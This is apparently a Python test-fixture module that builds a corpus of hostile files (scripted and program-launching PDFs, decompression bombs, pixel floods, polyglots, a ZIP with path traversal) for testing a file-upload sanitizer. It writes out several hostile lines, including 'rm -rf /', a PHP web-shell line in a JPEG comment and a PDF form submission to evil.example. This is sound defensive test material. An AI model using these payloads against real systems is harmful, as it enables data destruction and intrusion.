"""The hostile corpus: each file with the codes that may refuse it; `clean` where it is taken and made harmless."""

import gzip
import io
import struct
import zipfile
from collections.abc import Callable
from functools import cache
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String
from PIL import Image

from tests.prep import made_files as make
from tests.prep.made_files import annotated, bomb, chunk, jpeg, pdf, pdf_of, pdf_with, png, png_of, script, whole_png

CLEAN = "clean"
CANARY = b"Quillfeather"
Case = tuple[Callable[[], bytes], set[str]]


def _zip(*names: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name in names:
            archive.writestr(name, CANARY * 20)
    return out.getvalue()


def _pdf_raw(body: bytes) -> bytes:
    """A PDF written by hand, with a right cross-reference table."""
    out, offsets = b"%PDF-1.5\n", []
    for number, part in enumerate(body.split(b"\n---\n"), 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, part)
    at = len(out)
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    size = len(offsets) + 1
    return out + b"xref\n0 %d\n0000000000 65535 f \n%strailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (
        size, table, size, at,
    )  # fmt: skip


def _launch(made: pikepdf.Pdf) -> None:
    annotated(made, Subtype=Name.Link, A=Dictionary(S=Name.Launch, F=String("calc.exe")))


def _action(kind: str, **more: Any) -> Callable[[pikepdf.Pdf], None]:
    return lambda made: annotated(made, Subtype=Name.Link, A=Dictionary(S=Name("/" + kind), **more))


def _embedded(made: pikepdf.Pdf) -> None:
    made.attachments["evil.exe"] = b"MZ" + CANARY


def _orphan(made: pikepdf.Pdf) -> None:
    """A script that no page leads to, but that the file lists."""
    made.Root.Quiet = made.make_indirect(Dictionary(Deep=Array([Dictionary(Deeper=script())])))


def _many_objects(made: pikepdf.Pdf) -> None:
    made.Root.Heap = Array([made.make_indirect(Dictionary(N=number)) for number in range(5000)])


def _deep(made: pikepdf.Pdf) -> None:
    inner = Array([])
    for _ in range(90):
        inner = Array([inner])
    made.Root.Deep = inner


def _external_stream(made: pikepdf.Pdf) -> None:
    made.Root.Away = made.make_indirect(Stream(made, b"x", {"/F": String("/etc/passwd")}))


def _field(made: pikepdf.Pdf) -> None:
    made.Root.AcroForm = Dictionary(Fields=Array([]), XFA=String("<xdp/>"))


def _loop() -> bytes:
    return _pdf_raw(b"<</Type/Catalog/Pages 2 0 R>>\n---\n<</Type/Pages/Kids[2 0 R]/Count 1>>")


def _hidden_name() -> bytes:
    """A script whose name is written with a code in it."""
    return _pdf_raw(
        b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/J#61vaScript/J#53(app.alert\\(1\\))>>>>\n---\n"
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>\n---\n<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"
    )


SMUGGLED = b"<</S/URI/URI(http://evil.example/Quillfeather)>>"


def _written(root: bytes = b"", page: bytes = b"") -> bytes:
    """A PDF of one page, written by hand, with more in its root or its page."""
    return _pdf_raw(
        b"<</Type/Catalog/Pages 2 0 R" + root + b">>\n---\n<</Type/Pages/Kids[3 0 R]/Count 1>>\n---\n"
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]" + page + b">>"
    )


def _note(more: bytes) -> bytes:
    return _written(page=b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]" + more + b">>]")


def _root_in_place() -> bytes:
    """The root stands in the trailer, where a list of objects does not show it."""
    code = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
    names = b"/Names<</JavaScript<</Names[(a)" + code + b"]>>>>/AA<</WC" + code + b">>"
    return _written().replace(b"/Root 1 0 R", b"/Root<</Type/Catalog/Pages 2 0 R" + names + b">>")


def _many_passes() -> bytes:
    """A small photo whose last pass, of 12 bytes or so, is told 30,000 times."""
    plain = make.saved(Image.new("L", (1000, 1000), 100), "JPEG", progressive=True, quality=1)
    last = plain[plain.rfind(b"\xff\xda") : -2]
    return plain[:-2] + last * 30_000 + b"\xff\xd9"


@cache
def _heavy() -> bytes:
    """More zeros than the reading process may hold."""
    return bomb(1_200_000_000, level=1)


def _object_stream_bomb() -> bytes:
    """A page that stands in a packed object, which is a bomb."""
    packed = _heavy()
    bodies = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[4 0 R]/Count 1>>",
        b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(packed) + packed + b"\nendstream",
    ]
    out, entries = b"%PDF-1.5\n", [struct.pack(">BIH", 0, 0, 65535)]
    for number, body in enumerate(bodies, 1):
        entries.append(struct.pack(">BIH", 1, len(out), 0))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    entries += [struct.pack(">BIH", 2, 3, 0), struct.pack(">BIH", 1, len(out), 0)]
    return out + _cross_reference(len(out), b"".join(entries), b"")


def _xref_stream_bomb() -> bytes:
    return b"%PDF-1.5\n" + _cross_reference(9, _heavy(), b"/Filter/FlateDecode")


def _cross_reference(at: int, table: bytes, filtered: bytes) -> bytes:
    head = b"5 0 obj\n<</Type/XRef/Size 6/W[1 4 2]/Root 1 0 R/Length %d%s>>stream\n" % (len(table), filtered)
    return head + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % at


def _huge_jpeg() -> bytes:
    """A JPEG whose head says 65,500 x 65,500."""
    plain = bytearray(jpeg())
    at = plain.index(b"\xff\xc0")
    plain[at + 5 : at + 9] = (65500).to_bytes(2, "big") * 2
    return bytes(plain)


def _huge_cmyk() -> bytes:
    plain = bytearray(jpeg("CMYK"))
    at = plain.index(b"\xff\xc0")
    plain[at + 5 : at + 9] = (30000).to_bytes(2, "big") * 2
    return bytes(plain)


def _animated() -> bytes:
    out = io.BytesIO()
    frames = [Image.new("RGB", (60, 60), (shade, 0, 0)) for shade in range(0, 250, 10)]
    frames[0].save(out, "PNG", save_all=True, append_images=frames[1:])
    return out.getvalue()


def _commented() -> bytes:
    return make.saved(make.drawn(), "JPEG", comment=b"<?php system($_GET['q']); /* " + CANARY + b" */ ?>")


def _office() -> bytes:
    return _zip("[Content_Types].xml", "word/document.xml", "word/vbaProject.bin")


def _named_pdf() -> bytes:
    def named(made: pikepdf.Pdf) -> None:
        made.docinfo["/Author"] = "Quillfeather"

    return pdf_of(named)


HTML = b"<!doctype html><script>alert('" + CANARY + b"')</script>"
SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script></svg>"
KIND, DAMAGED = {"kind"}, {"damaged"}

HOSTILE: dict[str, Case] = {
    # Not a letter at all, whatever it calls itself.
    "empty": (lambda: b"", {"empty"}),
    "only NUL": (lambda: bytes(5000), {"empty"}),
    "one byte": (lambda: b"x", KIND),
    "SVG": (lambda: SVG, KIND),
    "SVG with BOM": (lambda: b"\xef\xbb\xbf" + SVG, KIND),
    "SVG behind XML": (lambda: b"<?xml version='1.0'?>" + SVG, KIND),
    "gzipped SVG": (lambda: gzip.compress(SVG), KIND),
    "HTML": (lambda: HTML, KIND),
    "XHTML": (lambda: b"<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'>" + HTML, KIND),
    "JavaScript": (lambda: b"/*\xff\xd8\xff*/alert(1)", KIND),
    "PHP": (lambda: b"<?php echo 1; ?>", KIND),
    "shell": (lambda: b"#!/bin/sh\nrm -rf /\n", KIND),
    "Windows program": (lambda: b"MZ" + bytes(200), KIND),
    "ELF program": (lambda: b"\x7fELF" + bytes(200), KIND),
    "ZIP": (lambda: _zip("../../etc/passwd"), KIND),
    "Office with macros": (_office, KIND),
    "old Office": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), KIND),
    "RTF": (lambda: b"{\\rtf1 {\\object\\objocx}}", KIND),
    "PostScript": (lambda: b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file", KIND),
    "GIF": (lambda: make.saved(make.drawn(), "GIF"), KIND),
    "GIFAR": (lambda: make.saved(make.drawn(), "GIF") + _zip("Evil.class"), KIND),
    "WebP": (lambda: make.saved(make.drawn(), "WEBP"), KIND),
    "TIFF": (lambda: make.saved(make.drawn(), "TIFF"), KIND),
    "BMP": (lambda: make.saved(make.drawn(), "BMP"), KIND),
    "ICO": (lambda: make.saved(make.drawn(size=(64, 64)), "ICO"), KIND),
    "HEIC": (lambda: b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + bytes(99), {"heic"}),
    "video": (lambda: b"\0\0\0\x18ftypmp42" + bytes(99), KIND),
    "e-mail": (lambda: b"Subject: letter\r\n\r\nhello", KIND),
    "HTML before a PDF": (lambda: HTML + pdf(), KIND),
    "GIF before a PDF": (lambda: b"GIF89a/*" + pdf() + b"*/", KIND),
    "ZIP before a PNG": (lambda: _zip("a") + png(), KIND),
    # Pictures.
    "JPEG and ZIP": (lambda: jpeg() + _zip("Evil.class"), {CLEAN}),
    "PNG and HTML": (lambda: png() + HTML, {CLEAN}),
    "PNG and PDF": (lambda: png() + pdf(), {CLEAN}),
    "JPEG with PHP in a comment": (_commented, {CLEAN}),
    "PNG with HTML in a text": (lambda: whole_png(chunk(b"tEXt", b"Title\0" + HTML)), {CLEAN}),
    "JPEG head on HTML": (lambda: b"\xff\xd8\xff\xe0" + HTML, DAMAGED),
    "PNG head on HTML": (lambda: make.PNG_HEAD + HTML, DAMAGED),
    "JPEG cut in its head": (lambda: jpeg()[:30], DAMAGED),
    "JPEG cut in the middle": (lambda: jpeg()[: len(jpeg()) // 2], DAMAGED),
    "PNG cut in the middle": (lambda: png()[: len(png()) // 2], DAMAGED),
    "PNG pixel flood": (lambda: png_of(60_000, 60_000), {"pixels"}),
    "PNG of 2 billion pixels a side": (lambda: png_of(2**31 - 1, 2**31 - 1), {"pixels"}),
    "PNG of no size": (lambda: png_of(0, 0), DAMAGED),
    "PNG a pixel high": (lambda: png_of(10_000_000, 1), DAMAGED),
    "JPEG pixel flood": (_huge_jpeg, {"pixels"}),
    "CMYK JPEG bomb": (_huge_cmyk, {"pixels"}),
    "PNG with a zTXt bomb": (lambda: whole_png(chunk(b"zTXt", b"Title\0\0" + bomb())), DAMAGED),
    "PNG with an iTXt bomb": (lambda: whole_png(chunk(b"iTXt", b"Title\0\1\0\0\0" + bomb())), DAMAGED),
    "PNG with an iCCP bomb": (lambda: whole_png(chunk(b"iCCP", b"icc\0\0" + bomb())), DAMAGED),
    "PNG with an IDAT bomb": (lambda: png_of(500, 500, chunk(b"IDAT", bomb())), {CLEAN}),
    "PNG with a wrong checksum": (lambda: png()[:29] + b"\0\0\0\0" + png()[33:], DAMAGED),
    "JPEG of 30,000 passes": (_many_passes, {"heavy"}),
    "animated PNG": (_animated, {CLEAN}),
    "JPEG with a broken EXIF": (lambda: jpeg(exif=b"Exif\0\0II*\0\xff\xff\xff\xff" + bytes(40)), {CLEAN}),
    # PDF.
    "PDF head on HTML": (lambda: b"%PDF-1.7\n" + HTML, DAMAGED),
    "PDF cut off": (lambda: pdf(3)[:700], DAMAGED),
    "PDF cut in the middle with an end": (lambda: pdf(3)[:700] + b"\nstartxref\n9\n%%EOF", DAMAGED),
    "PDF and ZIP": (lambda: pdf() + _zip("Evil.class")[:600], {CLEAN}),
    "PDF and HTML": (lambda: pdf() + b"\n" + HTML, {CLEAN}),
    "PDF with a script on opening": (lambda: pdf_with(OpenAction=script()), {"active"}),
    "PDF with a script by name": (
        lambda: pdf_with(Names=Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script()])))), {"active"},
    ),
    "PDF with a hidden script name": (
        _hidden_name, {"active"},
    ),
    "PDF with a script in a packed object": (
        lambda: pdf_of(_orphan, object_stream_mode=pikepdf.ObjectStreamMode.generate), {"active"},
    ),
    "PDF with a script no page leads to": (lambda: pdf_of(_orphan), {"active"}),
    "PDF with an action on a page": (
        lambda: pdf_of(lambda made: made.pages[0].obj.__setattr__("AA", Dictionary(O=script()))), {"active"},
    ),
    "PDF that starts a program": (lambda: pdf_of(_launch), {"active"}),
    "PDF that starts a program on opening": (
        lambda: pdf_with(OpenAction=Dictionary(S=Name.Launch, F=String("cmd.exe"))), {"active"},
    ),
    "PDF that sends a form": (lambda: pdf_of(_action("SubmitForm", F=String("http://evil.example"))), {"active"}),
    "PDF that imports data": (lambda: pdf_of(_action("ImportData", F=String("x.fdf"))), {"active"}),
    "PDF that opens another file": (lambda: pdf_of(_action("GoToR", F=String("\\\\evil\\share"))), {"active"}),
    "PDF that opens a file inside": (lambda: pdf_of(_action("GoToE")), {"active"}),
    "PDF with a link": (lambda: pdf_of(_action("URI", URI=String("http://evil.example/Quillfeather"))), {CLEAN}),
    "PDF that opens a page of the web": (
        lambda: pdf_with(OpenAction=Dictionary(S=Name.URI, URI=String("http://evil.example/Quillfeather"))), {CLEAN},
    ),
    "PDF whose root is in its trailer": (_root_in_place, {"active", "damaged"}),
    "PDF with a script in its trailer": (
        lambda: _written().replace(b"/Root 1", b"/Evil<</S/JavaScript/JS(x)>>/Root 1"), {"active"},
    ),
    "PDF with a link in its trailer": (
        lambda: _written().replace(b"/Root 1", b"/Evil" + SMUGGLED + b"/Root 1"), {CLEAN},
    ),
    "PDF with a link after a jump": (
        lambda: _note(b"/A<</S/GoTo/D[3 0 R/Fit]/Next" + SMUGGLED + b">>"), {CLEAN},
    ),
    "PDF with a link after jumps": (
        lambda: _note(b"/A<</S/GoTo/D[3 0 R/Fit]/Next[<</S/GoTo/D[3 0 R/Fit]/Next" + SMUGGLED + b">>]>>"), {CLEAN},
    ),
    "PDF with a link kept beside": (lambda: _note(b"/PA" + SMUGGLED), {CLEAN}),
    "PDF with a link in a field": (
        lambda: _written(root=b"/AcroForm<</Fields[<</T(x)/FT/Tx/A" + SMUGGLED + b">>]>>"), {CLEAN},
    ),
    "PDF with a link in its contents": (
        lambda: _written(root=b"/Outlines<</First<</Title(x)/A" + SMUGGLED + b">>>>"), {CLEAN},
    ),
    "PDF with a link in a look": (
        lambda: _written(page=b"/Resources<</Properties<</P<</Deep[<</A" + SMUGGLED + b">>]>>>>>>"), {CLEAN},
    ),
    "PDF with a file inside": (lambda: pdf_of(_embedded), {"holds_files"}),
    "PDF with a file on a page": (
        lambda: pdf_of(lambda made: annotated(made, Subtype=Name.FileAttachment)), {"holds_files"},
    ),
    "PDF with a film": (lambda: pdf_of(lambda made: annotated(made, Subtype=Name.RichMedia)), {"holds_files"}),
    "PDF with XFA": (lambda: pdf_of(_field), {"active"}),
    "PDF locked": (
        lambda: pdf(encryption=pikepdf.Encryption(owner="a", user="b")), {"locked"},
    ),
    "PDF locked for printing only": (
        lambda: pdf(encryption=pikepdf.Encryption(owner="a", user="")), {"locked"},
    ),
    "PDF of 13 pages": (lambda: pdf(13), {"pages"}),
    "PDF without pages": (lambda: make.written(pikepdf.new()), DAMAGED),
    "PDF whose pages go in a circle": (_loop, DAMAGED),
    "PDF of 5,000 objects": (lambda: pdf_of(_many_objects), {"heavy"}),
    "PDF nested 90 deep": (lambda: pdf_of(_deep), {"heavy"}),
    "PDF with a packed object bomb": (_object_stream_bomb, {"heavy", "damaged"}),
    "PDF with a cross-reference bomb": (_xref_stream_bomb, {"heavy", "damaged"}),
    "PDF with a stream elsewhere": (lambda: pdf_of(_external_stream), {"active"}),
    "PDF with a metadata text": (_named_pdf, {CLEAN}),
    "too large": (lambda: jpeg() + bytes(10 * 1024 * 1024), {"big"}),
}  # fmt: skip
"""Name -> what makes it, and what may come of it."""
